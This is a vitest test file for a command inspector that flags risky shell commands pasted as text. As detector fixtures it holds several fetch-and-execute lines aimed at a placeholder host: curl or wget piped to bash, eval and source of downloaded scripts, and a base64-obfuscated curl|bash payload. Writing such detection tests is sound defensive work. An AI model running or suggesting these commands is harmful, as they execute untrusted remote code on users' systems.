import { beforeAll, describe, expect, it } from 'vitest'
import { isCoreError } from '../../../../main/core/errors'
import { inspectText } from '../../../../main/core/inspect/inspect'
import { segment } from '../../../../main/core/inspect/segment'
import type { ShellParser } from '../../../../main/core/inspect/shell-parser'
import { Limits } from '../../../../main/core/limits'
import { loadShellParser } from '../../../../main/node/shell-parser'

let parser: ShellParser
beforeAll(async () => {
  parser = await loadShellParser()
})

const rulesOf = async (text: string): Promise<string[]> =>
  (await inspectText(text, { parser })).findings.map((f) => f.rule)

describe('segment', () => {
  describe('when text mixes prose, prompts and fences', () => {
    it('marks prose, prompt lines and fenced shell lines', () => {
      const s = segment('Run this please.\n$ sudo apt update\n```bash\nls -l\n```\nThanks, cat lovers')
      expect(s.lineKinds).toEqual(['prose', 'command', 'code', 'command', 'code', 'prose'])
    })
  })
  describe('when a prose line has an apostrophe', () => {
    it('does not read it as a command', () => {
      expect(segment("sudo isn't needed here").lineKinds).toEqual(['prose'])
    })
  })
  describe('when a prose line contains inline code', () => {
    it('keeps the span columns of the command', () => {
      const s = segment('then run `sudo reboot` now')
      expect(s.commandSpans[0]).toEqual([[10, 21]])
    })
  })
})

describe('inspectText', () => {
  describe('when the input is over the paste limit', () => {
    it('throws INSPECT_TOO_LARGE', async () => {
      const e = await inspectText('a'.repeat(Limits.size.pastedTextBytes + 1), { parser }).catch(
        (x: unknown) => x,
      )
      expect(isCoreError(e, 'INSPECT_TOO_LARGE')).toBe(true)
    })
  })

  describe('when a download is piped to a shell', () => {
    it('reports pipe-to-shell on the shell with exact line and columns', async () => {
      const text = 'Fix:\n  curl -fsSL https://x.example.org/a.sh | sudo bash\n'
      const r = await inspectText(text, { parser })
      const f = r.findings.find((x) => x.rule === 'pipe-to-shell')
      expect(f).toMatchObject({ line: 2, severity: 'high' })
      expect(text.split('\n')[1]?.slice(f?.start, f?.end)).toBe('sudo bash')
      expect(text.slice(f?.offset, f?.endOffset)).toBe('sudo bash')
      expect(r.verdict).toBe('dangerous')
    })
  })

  describe('when the shell reads a local file instead of stdin', () => {
    it('does not report pipe-to-shell', async () => {
      expect(
        await rulesOf('curl -s https://x.example.org/list.txt | grep foo\nbash ./build.sh\n'),
      ).not.toContain('pipe-to-shell')
    })
  })

  describe('when wrappers hide the shell', () => {
    it.each([
      'curl -s https://x.example.org/a | sudo -E env A=1 nohup bash -s',
      'curl -s https://x.example.org/a | timeout 60 sh',
      'wget -qO- https://x.example.org/a | sudo su -c "bash"',
      "sudo sh -c 'curl -s https://x.example.org/a | bash'",
      'eval "$(curl -s https://x.example.org/a)"',
      'S=$(wget -O- https://x.example.org/a)\nbash -c "$S"',
      'source <(curl -s https://x.example.org/a)',
    ])('still reports pipe-to-shell for: %s', async (text) => {
      expect(await rulesOf(text)).toContain('pipe-to-shell')
    })
  })

  describe('when a base64 payload is decoded and run', () => {
    it('reports decoded-payload and what the payload itself does', async () => {
      const payload = btoa('curl -s https://x.example.org/a | bash')
      const rules = await rulesOf(`echo ${payload} | base64 -d | sh`)
      expect(rules).toContain('decoded-payload')
      expect(rules).toContain('pipe-to-shell')
    })
  })

  describe('when apt is used in the ordinary way', () => {
    it.each([
      'sudo apt update && sudo apt upgrade -y',
      'sudo apt-get update; sudo apt-get dist-upgrade',
      'sudo apt install --only-upgrade openssl',
      'sudo reboot',
      'apt list --upgradable',
    ])('is never dangerous and has no findings: %s', async (text) => {
      const r = await inspectText(text, { parser })
      expect(r.verdict).toBe('caution')
      expect(r.findings).toEqual([])
    })
  })

  describe('when switching to another Ubuntu mirror', () => {
    it('reports only a low mirror-change', async () => {
      const r = await inspectText(
        "sudo sed -i 's|http://archive.ubuntu.com/ubuntu|https://mirrors.kernel.org/ubuntu|' /etc/apt/sources.list",
        { parser },
      )
      expect(r.verdict).toBe('caution')
      expect(r.findings.map((f) => [f.rule, f.severity])).toEqual([['mirror-change', 'low']])
    })
  })

  describe('when there is no command at all', () => {
    it('says so in the summary', async () => {
      const r = await inspectText('The archive is back. Nothing to do.', { parser })
      expect(r.commandCount).toBe(0)
      expect(r.summary).toMatch(/No commands found/)
    })
  })
})
